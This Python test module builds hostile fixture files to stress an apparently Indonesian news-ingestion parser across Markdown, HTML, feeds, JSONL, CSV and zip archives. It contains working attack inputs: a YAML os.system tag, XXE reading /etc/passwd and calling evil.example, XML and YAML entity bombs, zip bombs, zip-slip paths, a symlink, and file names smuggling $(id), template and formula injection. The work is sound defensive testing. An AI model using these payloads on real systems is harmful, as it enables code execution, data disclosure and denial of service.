"""Hostile articles: every hostile word in every place of every format, and files that are hostile as a whole.

`all_inputs` gives them as (place, what is hostile in it, bytes); several records of one file are several inputs.
"""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from html import escape
from xml.sax.saxutils import escape as xml

from tests.hostile.words import IDS, Words, hostile

File = tuple[str, bytes]
FIRST = date(1996, 1, 3)
MONTHS = [
    "Januari",
    "Februari",
    "Maret",
    "April",
    "Mei",
    "Juni",
    "Juli",
    "Agustus",
    "September",
    "Oktober",
    "November",
    "Desember",
]
SMALL = 20_000
"""Bytes of an odd file that the short test reads, too."""
MANY = ("bombs.zip", "many.zip", "twice.jsonl")
"""Odd files that are small and give many articles."""
GOOD_IN_XML = "\t\n\r"


def told(number: int) -> str:
    """Give a day of its own for an input, as an article would write it."""
    day = FIRST + timedelta(days=13 * number)
    return f"{day.day} {MONTHS[day.month - 1]} {day.year}"


def prose(words: str, number: int) -> str:
    """Put hostile words at the beginning, in the middle and at the end of sentences that tell an event."""
    return (
        f"Presiden Velindra Irma Dovel bertemu {words} Perdana Menteri Tomas Kereng di Velinor pada {told(number)}. "
        f"{words} Velindra dan Tarsonia menandatangani perjanjian {words}\n\nDewan Meranta {words} berdiri pada {told(number)} {words}."
    )


def one_line(text: str) -> str:
    """Fold to one line, as a title is, and leave what YAML refuses to the files that try just that."""
    return " ".join("".join(letter for letter in text if letter >= " " or letter.isspace()).split())


# --- One file an input ----------------------------------------------------------------------------------------------


def markdown(words: Words, number: int) -> File:
    title, other = (json.dumps(one_line(text)[:900]) for text in (words.text, f"{words.text} dan lain-lain"))
    head = f"---\ntitle: {title}\noutlet: {other}\nauthors: [{title}]\nurl: {title}\npublished: 2024-07-03\n---\n"
    return f"markdown/{words.name}.md", (head + prose(words.text, number)).encode("utf-8", "surrogatepass")


def plain(words: Words, number: int) -> File:
    return f"plain/{words.name}.txt", f"{words.text}\n\n{prose(words.text, number)}\n".encode()


def page(words: Words, number: int) -> File:
    """Give a page that holds the words as they are, and escaped, in its head and its body."""
    safe = escape(words.text)
    text = (
        f'<!doctype html><html lang="id"><head><title>{safe}</title><meta property="og:site_name" content="{safe}">'
        f'<meta name="author" content="{safe}"><link rel="canonical" href="{safe}">'
        f'<script type="application/ld+json">{{"@type":"NewsArticle","headline":{json.dumps(words.text)},'
        f'"author":{{"name":{json.dumps(words.text)}}}}}</script></head>'
        f"<body><article><h1>{safe}</h1><p>{words.text}</p>"
        + "".join(f"<p>{escape(part)}</p>" for part in prose(words.text, number).split("\n\n"))
        + f"<p>{words.text}</p></article></body></html>"
    )
    return f"pages/{words.name}.html", text.encode("utf-8", "surrogatepass")


WHOLE: tuple[Callable[[Words, int], File], ...] = (markdown, plain, page)


# --- Many records a file --------------------------------------------------------------------------------------------


def record(words: Words, number: int) -> dict[str, object]:
    text = words.text[:2_000]
    return {
        "id": f"{words.name}-{text[:60]}",
        "title": text,
        "outlet": text,
        "published": "2024-07-03",
        "url": f"https://berita.example/{number}?{one_line(text)[:40].replace(' ', '')}",
        "authors": [text],
        "lang": "id",
        "text": prose(words.text, number),
    }


def records(chosen: list[Words], first: int) -> File:
    lines = [json.dumps(record(words, first + number)) for number, words in enumerate(chosen)]
    return "catatan.jsonl", "\n".join(lines).encode()


def sheet(chosen: list[Words], first: int) -> File:
    rows = [(f"lembar-{one.name}", one.text, one.text, prose(one.text, first + n)) for n, one in enumerate(chosen)]
    quoted = (",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
    return "lembar.csv", "\n".join(["id,title,outlet,text", *quoted]).encode("utf-8", "surrogatepass")


def feed(chosen: list[Words], first: int) -> File:
    """Give a feed with the words as text, as escaped HTML and in CDATA."""
    items = []
    for number, words in enumerate(chosen):
        text = "".join(letter for letter in words.text if letter >= " " or letter in GOOD_IN_XML)
        text = text.replace("\ufffe", "").replace("\uffff", "")[:5_000]
        body = xml(f"<p>{text}</p><p>{escape(prose(text, first + number))}</p>")
        items.append(
            f"<item><title>{xml(text)}</title><guid>{xml(text)}-{number}</guid><link>{xml(text)}</link>"
            f"<author>{xml(text)}</author><description>{body}</description></item>"
        )
    return (
        "umpan.rss",
        f'<rss version="2.0"><channel><title>{xml(items[0])}</title>{"".join(items)}</channel></rss>'.encode(),
    )


def ids() -> File:
    lines = [
        json.dumps(
            {"id": id, "title": id, "outlet": "Suara Tarsa", "published": "2024-07-03", "text": prose("", 600 + n)}
        )
        for n, id in enumerate(IDS)
    ]
    return "tanda.jsonl", "\n".join(lines).encode()


# --- Files that are hostile as a whole ------------------------------------------------------------------------------


def odd_files() -> Iterator[File]:
    """Give files that no reader should trip over: bombs, depths, halves and floods."""
    sentence = "Velindra dan Tarsonia menandatangani perjanjian di Velinor pada 3 Mei 2020."
    aliases = "\n".join(f"k{n}: &k{n} [{', '.join([f'*k{n - 1}'] * 9)}]" for n in range(1, 9))
    yield "odd/yaml-bomb.md", f"---\nk0: &k0 x\n{aliases}\n---\n{sentence}\n".encode()
    yield "odd/yaml-self.md", f"---\ntitle: &a [*a]\n---\n{sentence}\n".encode()
    yield (
        "odd/yaml-tag.md",
        f"---\ntitle: !!python/object/apply:os.system ['touch /tmp/pwned']\n---\n{sentence}\n".encode(),
    )
    yield "odd/yaml-binary.md", f"---\ntitle: !!binary gIGC\ndate: !!timestamp 2001-02-30\n---\n{sentence}\n".encode()
    yield "odd/yaml-merge.md", f"---\n<<: {{title: x}}\ntitle: y\n---\n{sentence}\n".encode()
    yield "odd/yaml-key.md", f"---\n? [a, b]\n: c\n? {{d: e}}\n: f\n---\n{sentence}\n".encode()
    yield "odd/yaml-deep.md", b"---\ntitle: " + b"[" * 60_000 + b"\n---\n" + sentence.encode()
    yield "odd/yaml-dashes.md", b"---\n" + b"- " * 60_000 + b"\n---\n" + sentence.encode()
    yield "odd/yaml-long.md", b"---\ntitle: " + b"x" * 5_000_000 + b"\n---\n" + sentence.encode()
    yield "odd/yaml-open.md", b"---\ntitle: x\n" * 50_000 + sentence.encode()
    yield "odd/quotes.md", f'---\ntitle: "{"x" * 300}\n---\n{sentence}\n'.encode()
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield (
        "odd/xml-bomb.rss",
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "tertawa">{entities}]><rss version="2.0"><channel>'
        f"<item><title>&l9;</title><description>&l9; {sentence}</description></item></channel></rss>".encode(),
    )
    yield (
        "odd/xml-outside.rss",
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM '
        b'"http://evil.example/x"> %y;]><rss version="2.0"><channel><item><title>&x;</title><description>&x; '
        + sentence.encode()
        + b"</description></item></channel></rss>",
    )
    yield "odd/xml-deep.atom", b"<feed>" + b"<entry>" * 50_000 + sentence.encode()
    yield "odd/html-deep.html", b"<div>" * 100_000 + sentence.encode()
    yield "odd/html-tables.html", b"<table><tr><td>" * 20_000 + sentence.encode()
    yield "odd/html-attributes.html", b"<p " + b"a=b " * 200_000 + b">" + sentence.encode()
    yield "odd/html-open.html", b"<" * 300_000 + sentence.encode()
    yield "odd/html-comment.html", b"<!--" * 200_000 + sentence.encode()
    yield "odd/html-entity.html", b"<!DOCTYPE html [<!ENTITY a 'b'>]><p>&a;" + b"&amp" * 300_000 + sentence.encode()
    yield "odd/html-frames.html", b"<p>" + sentence.encode() + b"</p><iframe srcdoc='" + b"<p>" * 50_000 + b"'>"
    yield "odd/line.txt", b"kata " * 2_000_000 + sentence.encode()
    yield "odd/word.txt", b"x" * 10_000_000
    yield "odd/dots.txt", b"." * 3_000_000 + sentence.encode()
    yield "odd/spaces.txt", b"a" + b" " * 3_000_000 + b"b. " + sentence.encode()
    yield "odd/breaks.txt", b"\r\n" * 1_000_000 + sentence.encode()
    yield "odd/returns.txt", b"a\r" * 500_000 + sentence.encode()
    yield "odd/brackets.txt", b"(((" * 700_000 + sentence.encode()
    yield "odd/digits.txt", b"1.000." * 400_000 + b" " + sentence.encode()
    yield "odd/dates.txt", b"pada 3 Mei 2020, " * 60_000
    yield "odd/days.txt", (sentence.encode() + b" ") * 20_000
    yield "odd/quotes.txt", "\"'“”‘’«»".encode() * 100_000 + sentence.encode()
    yield "odd/list.md", b"- " * 100_000 + sentence.encode()
    yield "odd/quote.md", b"> " * 100_000 + sentence.encode()
    yield "odd/emphasis.md", b"*a_ " * 100_000 + sentence.encode()
    yield "odd/links.md", b"[a](" * 100_000 + sentence.encode()
    yield "odd/reference.md", b"[a]: <b" * 50_000 + sentence.encode()
    yield "odd/fence.md", b"`" * 500_000 + sentence.encode()
    yield "odd/binary.txt", bytes(range(256)) * 4_000
    yield "odd/nul.txt", b"\x00" * 100_000
    yield "odd/half.txt", b"\xff\xfe\x00" + sentence.encode()
    yield "odd/utf7.html", b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4- " + sentence.encode()
    yield "odd/charset.html", b"<meta charset=base64_codec><p>" + sentence.encode() + b"\xff"
    yield "odd/punycode.html", b"<meta charset=unicode_escape><p>\\x3cscript\\x3e\xff" + sentence.encode()
    yield "odd/surrogates.jsonl", json.dumps({"id": "\ud800", "title": "\udfff", "text": f"{sentence} \ud83d"}).encode()
    yield "odd/deep.jsonl", b'{"text": ' + b"[" * 200_000
    yield "odd/deep-value.jsonl", b'{"text": "x", "title": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}"
    yield (
        "odd/types.jsonl",
        b'{"text": 1}\n[]\nnull\n"x"\n{"text": {"a": 1}}\n{"text": "a", "part": 1e400}\n{"id": true, "text": "b"}',
    )
    yield "odd/numbers.jsonl", b'{"text": "Satu.", "id": ' + b"9" * 10_000 + b"}"
    yield "odd/twice.jsonl", (json.dumps({"id": "sama", "text": sentence}) + "\n").encode() * 300
    yield "odd/open.csv", b'id,text\n1,"' + b"a\n" * 30_000
    yield "odd/wide.csv", b"text," + b"kolom," * 50_000 + b"\n"
    yield "odd/head.csv", b'"text\n' * 1_000
    yield "odd/nul.csv", b"id,text\n1,a\x00b\n2,=1+1\n"
    yield "odd/empty.md", b"---\n---\n"
    yield "odd/bom.txt", b"\xef\xbb\xbf" * 1_000 + sentence.encode()
    yield "odd/" + "n" * 200 + ".txt", sentence.encode()
    yield "odd/<img src=x onerror=alert(1)>.txt", sentence.encode()
    yield "odd/\u202etxt.exe.md", sentence.encode()
    yield "odd/{{7*7}}.txt", sentence.encode()
    yield "odd/'\"&;$(id)`.txt", sentence.encode()
    yield "odd/=1+1.txt", sentence.encode()
    yield "odd/ \x1b[2J .txt", sentence.encode()


def _zip(*members: tuple[str, bytes], link: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
        if link:
            info = zipfile.ZipInfo("tautan.txt")
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, link)
    return out.getvalue()


def zips() -> Iterator[File]:
    """Give archives that climb, burst, nest, link and lie."""
    text = b"Velindra dan Tarsonia menandatangani perjanjian di Velinor pada 4 Mei 2020."
    for number, name in enumerate(
        (
            "../luar.txt",
            "/luar.txt",
            "a/../../luar.txt",
            "C:/luar.txt",
            "..\\luar.txt",
            "a//b.txt",
            "a\nb.txt",
            "CON.txt",
        )
    ):
        yield f"zips/slip-{number}.zip", _zip((name, text), ("baik.txt", text))
    yield "zips/bomb.zip", _zip(("bom.txt", b"0" * 60_000_000))
    yield "zips/bombs.zip", _zip(*((f"bom-{n}.txt", b"0" * 900_000) for n in range(60)))
    yield "zips/nested.zip", _zip(("dalam.zip", _zip(("a.txt", text))), ("baik.txt", text))
    yield "zips/link.zip", _zip(("baik.txt", text), link="/etc/passwd")
    yield "zips/many.zip", _zip(*((f"{n}/kosong.txt", b"") for n in range(3_000)))
    yield "zips/words.zip", _zip(("<script>alert(1)</script>.html", text), ("=1+1.md", text), ("{{7*7}}.txt", text))
    whole = _zip(("baik.txt", text))
    yield "zips/cut.zip", whole[:-30]
    yield "zips/prefixed.zip", b"x" * 100 + whole
    yield "zips/spoiled.zip", whole.replace(text[:4], b"xxxx")
    yield "zips/flags.zip", whole[:6] + b"\x01\x00" + whole[8:]
    yield "zips/twice.zip", _zip(("sama.txt", text), ("Sama.txt", text), ("sama.md", text))
    yield "zips/none.zip", b"PK\x03\x04"
    yield "zips/deep.zip", _zip(("a/" * 2_000 + "b.txt", text))


def all_files(*, every: int = 1) -> Iterator[File]:
    """Give all files; with `every` only each n-th hostile word, in one of the formats each, and no large file."""
    chosen = [words for number, words in enumerate(hostile()) if number % every == 0]
    for number, words in enumerate(chosen):
        for place, form in enumerate(WHOLE if every == 1 else (WHOLE[number % len(WHOLE)],)):
            yield form(words, 2 * number + place)
    part = chosen[:: 1 if every == 1 else 2]
    yield records(part, 300)
    yield sheet(part, 440)
    yield feed(part, 580)
    yield ids()
    for name, data in (*odd_files(), *zips()):
        if every == 1 or (len(data) < SMALL and not name.endswith(MANY)):
            yield name, data


def count() -> int:
    """Count the hostile inputs of the whole corpus: each hostile word in each place once, each id, each odd file."""
    words = len(list(hostile()))
    return words * (len(WHOLE) + 3) + len(IDS) + len(list(odd_files())) + len(list(zips()))
